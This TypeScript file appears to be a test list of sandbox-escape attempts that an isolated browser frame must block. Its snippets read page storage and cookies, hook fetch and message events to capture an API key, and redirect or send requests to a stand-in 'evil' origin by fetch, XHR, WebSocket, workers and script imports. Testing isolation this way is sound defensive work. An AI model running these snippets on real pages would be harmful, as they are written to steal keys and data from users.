import { type Attack, attempt } from './attack.ts';

/** What the frame and its policy have to hold back, in each browser: a way out past the page. */
export const browserAttacks: Attack[] = [
  {
    name: 'read the document of the page',
    code: () => `console.log(typeof document, typeof window, typeof parent, typeof top, typeof frames);`,
    prints: ['undefined undefined undefined undefined undefined'],
  },
  {
    name: 'read cookies',
    code: () => `console.log(typeof cookieStore, typeof document);`,
    prints: ['undefined undefined'],
  },
  {
    name: 'read what the site has stored',
    code: () =>
      attempt(
        `if (typeof localStorage !== 'undefined') return localStorage; const open = indexedDB.open('x'); await new Promise((resolve, reject) => { open.onsuccess = resolve; open.onerror = () => reject(open.error); }); return 'a database';`,
      ),
  },
  {
    name: 'read or replace the engines that the page keeps',
    code: () => attempt(`return (await caches.open('live-python')).keys();`),
  },
  {
    name: 'talk to other pages of the site',
    code: () => `new BroadcastChannel('site').postMessage('GOT'); console.log('sent');`,
    prints: ['sent'],
  },
  {
    name: 'read the key from a request',
    code: () =>
      `const own = globalThis.fetch; globalThis.fetch = (input, init) => { console.log(JSON.stringify(init?.headers)); return own(input, init); };
const again = await weaviate.connectToLocal(); console.log(JSON.stringify(await again.getConnectionDetails()));`,
  },
  {
    name: 'read the key from the messages of the page',
    code: () =>
      `const seen = []; const { get } = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data');
Object.defineProperty(MessageEvent.prototype, 'data', { get() { seen.push(this.target); return get.call(this); } });
const post = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function (...args) { seen.push(this); return post.apply(this, args); };
await client.getMeta(); console.log(seen.length);`,
    prints: ['0'],
  },
  {
    name: 'send the frame elsewhere with a secret',
    code: (evil) =>
      attempt(
        `self.location.href = '${evil}/frame'; self.location = '${evil}/frame'; throw new Error('still here');`,
      ),
  },
  {
    name: 'send the whole page elsewhere with a secret',
    code: (evil) =>
      attempt(
        `self.postMessage({ type: 'navigate', url: '${evil}' }); top.location = '${evil}/top'; return 1;`,
      ),
  },
  {
    name: 'open a window',
    code: (evil) => attempt(`return self.open('${evil}/window');`),
  },
  {
    name: 'reach another origin with fetch',
    code: (evil) => attempt(`return (await fetch('${evil}/fetch')).text();`),
  },
  {
    name: 'start a worker that reaches another origin',
    code: (evil) =>
      attempt(
        `const worker = new Worker(URL.createObjectURL(new Blob(["fetch('${evil}/worker').then((r) => r.text()).then((t) => postMessage('GOT ' + t), (e) => postMessage(String(e)))"]))); return await new Promise((resolve, reject) => { worker.onmessage = ({ data }) => (data.startsWith('GOT') ? resolve(data) : reject(data)); worker.onerror = reject; setTimeout(() => reject('silence'), 3000); });`,
      ),
    prints: ['failed ReferenceError: Worker is not defined'],
  },
  {
    name: 'reach another origin with XMLHttpRequest',
    code: (evil) =>
      attempt(
        `const request = new XMLHttpRequest(); request.open('GET', '${evil}/xhr', false); request.send(); return request.responseText;`,
      ),
  },
  {
    name: 'reach another origin with a WebSocket',
    code: (evil) =>
      attempt(
        `const socket = new WebSocket('${evil.replace('http', 'ws')}/socket'); return await new Promise((resolve, reject) => { socket.onopen = resolve; socket.onerror = () => reject('no socket'); });`,
      ),
  },
  {
    name: 'reach another origin with an event stream',
    code: (evil) =>
      attempt(
        `const source = new EventSource('${evil}/events'); return await new Promise((resolve, reject) => { source.onopen = resolve; source.onerror = () => reject('no stream'); });`,
      ),
  },
  {
    name: 'import code from another origin',
    code: (evil) => attempt(`return await import('${evil}/code.js');`),
  },
  {
    name: 'load a script from another origin',
    code: (evil) => attempt(`importScripts('${evil}/code.js'); return 1;`),
  },
  {
    name: 'reach the site that the page came from',
    code: (_, site) =>
      attempt(
        `const request = new XMLHttpRequest(); request.open('GET', '${site}/proof.json', false); request.send(); return request.responseText;`,
      ),
  },
];
